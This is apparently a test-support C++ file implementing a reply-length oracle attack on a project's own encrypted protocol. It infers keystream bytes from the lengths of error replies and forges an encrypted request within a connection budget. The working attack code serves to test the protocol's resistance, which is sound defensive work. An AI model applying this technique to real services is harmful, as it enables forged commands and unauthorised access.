// The reply-length oracle: probes under one key field, each on a connection of its own.
#include "tests/support/oracle.h"

#include <algorithm>
#include <random>

#include "protocol/cipher.h"
#include "protocol/manager.h"
#include "protocol/orv_const.h"
#include "tests/support/agent_process.h"

namespace {

// Text lengths of the replies that tell something: "500\nVoid request received\n\r", and
// "500\nUnknown command \"" + the command + "\"\n\r".
constexpr int kVoidReply = 27;
constexpr int kUnknownReply = 24;
// Random bytes after a probe's cipher text, so that its text holds the end mark somewhere (it
// would be answered "502" otherwise) and its first line feed lies beyond the byte probed.
constexpr int kTail = 2048;
constexpr int kRefused = -1;  // no reply: the key is used up, or the budget is
constexpr int kNotFound = -2;

bool Trimmed(char c) {
  return static_cast<signed char>(c) <= ' ';
}

class TAttack {
 public:
  TAttack(const TOracleOptions& options, TOracleResult& result)
      : o_(options), r_(result), random_(std::random_device{}()) {}

  // One key field of his own; true once the forged request was sent and answered.
  bool Forge() {
    ++r_.keys;
    keyField_ = Random(16);
    replies_ = 0;
    String cipher;
    for (int j = 0; j < static_cast<int>(o_.target.size()); ++j) {
      const int stream = Direct(j) ? LearnDirect(cipher) : LearnAfter(cipher.Copy(j - 15, 16));
      if (stream < 0) return false;
      cipher += static_cast<char>(stream ^ o_.target[j]);
      r_.mostLearned = std::max(r_.mostLearned, j + 1);
    }
    return Send(cipher) > 0;
  }

 private:
  // Whether the key-stream byte at j can be found at j itself: when the target's bytes before
  // it hold no line feed and nothing that trimming would take off the command word, and are not
  // its whole command word (a line feed after that would run the command, not tell anything).
  bool Direct(int j) const {
    const std::string before = o_.target.substr(0, j);
    std::string command = o_.target.substr(0, o_.target.find('\n'));
    while (!command.empty() && Trimmed(command.back())) command.pop_back();
    return before.find('\n') == std::string::npos && before != command &&
           (j == 0 || (!Trimmed(before.front()) && !Trimmed(before.back())));
  }

  // The key-stream byte after the cipher bytes `before`, whose plain bytes are the target's.
  int LearnDirect(const String& before) {
    const int j = before.Length();
    auto hit = [j](int n) { return j == 0 ? n == kVoidReply : n == kUnknownReply + j; };
    return Search(String(), before, hit);
  }

  // The key-stream byte after the 16 cipher bytes `window`, whatever came before them: the
  // window opens a probe after a few random bytes (which make it decrypt to garbage there, never
  // to the target's command word), so that the byte after it is where the first line feed is
  // looked for.
  int LearnAfter(const String& window) {
    for (int lead = 1; lead <= 8; ++lead) {
      const String start = Random(lead);
      const int end = lead + window.Length();
      auto hit = [end](int n) { return n >= kUnknownReply && n - kUnknownReply <= end; };
      const int n = Probe(start + window + Random(1));
      if (n < 0) return n;
      if (hit(n)) continue;  // a line feed inside the window: no byte after it could tell
      const int found = Search(start, window, hit);
      if (found != kNotFound) return found;
    }
    return kNotFound;
  }

  // Tries the 256 values of the byte after start + before until the text decrypts to a line
  // feed there, as hit tells from the reply's length. A byte that trimming takes off, with a line
  // feed in the random bytes after it, looks the same: each hit is tried twice more under other
  // random bytes.
  template <typename Hit>
  int Search(const String& start, const String& before, Hit hit) {
    const int first = static_cast<int>(random_() & 0xFF);
    for (int i = 0; i < 256; ++i) {
      const String probe = start + before + static_cast<char>((first + i) & 0xFF);
      int hits = 0;
      int n = 0;
      while (hits < 3 && (n = Probe(probe)) >= 0 && hit(n)) ++hits;
      if (n < 0) return n;
      if (hits == 3) return ((first + i) & 0xFF) ^ '\n';
    }
    return kNotFound;
  }

  int Probe(const String& cipher) { return Send(cipher + Random(kTail)); }

  // The length of the reply's text (it travels in clear); kRefused without one.
  int Send(const String& requestField) {
    if (r_.connections >= o_.budget) return kRefused;
    ++r_.connections;
    String body("\x03\x12", 2);
    body += Le(o_.proof.Length(), 2) + o_.proof + Le(keyField_.Length(), 2) + keyField_;
    body += Le(requestField.Length(), 4) + requestField;
    const String reply = Exchange(o_.port, Le(body.Length(), 4) + body);
    if (reply.Length() < 4 || ReplyPacketSize(reply) != reply.Length()) return kRefused;
    r_.mostReplies = std::max(r_.mostReplies, ++replies_);
    return DecodeLength(reply.Data(), 4);
  }

  static String Le(uint32_t v, int digits) {
    String s;
    for (int i = 0; i < digits; ++i) s += static_cast<char>(v >> (8 * i));
    return s;
  }

  String Random(int n) {
    String s;
    for (int i = 0; i < n; ++i) s += static_cast<char>(random_());
    return s;
  }

  const TOracleOptions& o_;
  TOracleResult& r_;
  std::mt19937_64 random_;
  String keyField_;
  int replies_ = 0;
};

}  // namespace

TOracleResult ForgeByReplyLength(const TOracleOptions& options) {
  TOracleResult result;
  TAttack attack(options, result);
  while (result.connections < options.budget) {
    if (attack.Forge()) {
      result.sent = true;
      result.connectionsToSend = result.connections;
      break;
    }
  }
  return result;
}

String ProofOf(const String& packet) {
  return packet.Copy(9, DecodeLength(packet.Data() + 6, 2));
}
